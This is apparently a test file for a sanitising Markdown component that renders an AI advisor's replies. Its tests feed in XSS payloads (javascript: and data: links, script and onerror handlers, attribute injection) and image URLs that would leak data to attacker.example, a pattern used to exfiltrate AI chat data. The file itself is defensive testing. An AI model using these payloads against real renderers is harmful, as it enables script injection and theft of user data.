import { cleanup, render } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import { Markdown } from './markdown';

afterEach(cleanup);

const html = (source: string) => render(<Markdown source={source} />).container;

describe('assistant Markdown is safe: no raw HTML, no images, only safe links', () => {
  it.each([
    ['javascript:', '[click](javascript:alert(1))'],
    ['mixed-case javascript:', '[click](JaVaScRiPt:alert(1))'],
    ['entity-encoded javascript:', '[click](&#106;avascript:alert(1))'],
    ['data:', '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
    ['vbscript:', '[click](vbscript:msgbox(1))'],
    ['an autolink to javascript:', '<javascript:alert(1)>'],
    ['a reference link to data:', '[click][x]\n\n[x]: data:text/html,hi'],
  ])('drops the URL of a %s link', (_name, source) => {
    const container = html(source);
    const values = [...container.querySelectorAll('*')].flatMap((element) =>
      element.getAttributeNames().map((name) => element.getAttribute(name) ?? ''),
    );
    expect(values.filter((value) => /javascript:|vbscript:|data:/i.test(value))).toEqual([]);
    expect(container.querySelector('a[href]')).toBeNull();
  });

  it('never renders raw HTML, scripts or event handlers', () => {
    const container = html(
      'Hi <script>alert(1)</script> <b onclick="alert(1)">bold</b> <img src=x onerror="alert(1)"> ' +
        '<iframe src="https://evil.example"></iframe> <a href="javascript:alert(1)">x</a> <svg onload="alert(1)"></svg>\n\n' +
        '<div style="background:url(https://evil.example/x)" onmouseover="alert(1)">block</div>',
    );
    expect(container.querySelector('.ea-markdown :is(script, iframe, img, svg, b, div)')).toBeNull();
    const attributes = [...container.querySelectorAll('*')].flatMap((element) => element.getAttributeNames());
    expect(attributes.filter((name) => name.startsWith('on') || name === 'style' || name === 'src')).toEqual([]);
    expect(container.textContent).toContain('Hi');
  });

  it('never loads an image, foreign or same-origin (no exfiltration through image URLs)', () => {
    const container = html(
      '![secret](https://attacker.example/p.png?d=PII) ![api](/api/conversations?userId=u) ![ref][i]\n\n[i]: //attacker.example/x.png\n\n' +
        '[![linked](https://attacker.example/b.png)](https://example.com)',
    );
    expect(container.querySelector('img, picture, source')).toBeNull();
    expect(container.innerHTML).not.toContain('attacker.example');
    expect(container.innerHTML).not.toContain('/api/conversations');
  });

  it('keeps safe links, opening in a new tab without opener or referrer', () => {
    const container = html(
      '[NatHERS](https://www.nathers.gov.au) [mail](mailto:hello@example.com) [chat](irc://irc.example.org/x) ' +
        '[secure chat](ircs://irc.example.org/x) [im](xmpp:advisor@example.com) [here](/guides/insulation) [plain](http://example.com)',
    );
    const links = [...container.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual([
      'https://www.nathers.gov.au',
      'mailto:hello@example.com',
      'irc://irc.example.org/x',
      'ircs://irc.example.org/x',
      'xmpp:advisor@example.com',
      '/guides/insulation',
      'http://example.com',
    ]);
    for (const link of links) {
      expect(link.getAttribute('target')).toBe('_blank');
      expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    }
  });

  it('renders the formatting the advisor uses', () => {
    const container = html('**R6.0** batts, *not* `R2.5`:\n\n- ceiling\n- walls');
    expect(container.querySelector('strong')?.textContent).toBe('R6.0');
    expect(container.querySelector('em')?.textContent).toBe('not');
    expect(container.querySelector('code')?.textContent).toBe('R2.5');
    expect(container.querySelectorAll('li')).toHaveLength(2);
  });

  it('renders GitHub-flavoured tables and strikethrough, never a task-list input', () => {
    const container = html('| Zone | Rating |\n| :--- | ---: |\n| 6 | **7 stars** |\n\n~~6 stars~~\n\n- [x] done');
    expect([...container.querySelectorAll('th')].map((cell) => cell.textContent)).toEqual(['Zone', 'Rating']);
    expect(container.querySelector('td strong')?.textContent).toBe('7 stars');
    expect(container.querySelector('del')?.textContent).toBe('6 stars');
    expect(container.querySelector('input')).toBeNull();
  });

  it('escapes what it writes into attributes: link titles, code languages', () => {
    const container = html(`[a](https://example.com 'x" onmouseover="alert(1)')\n\n\`\`\`js" onclick="alert(1)\nx\n\`\`\``);
    const attributes = [...container.querySelectorAll('*')].flatMap((element) => element.getAttributeNames());
    expect(attributes.filter((name) => name.startsWith('on'))).toEqual([]);
    expect(container.querySelector('a')?.getAttribute('title')).toBe('x" onmouseover="alert(1)');
  });
});
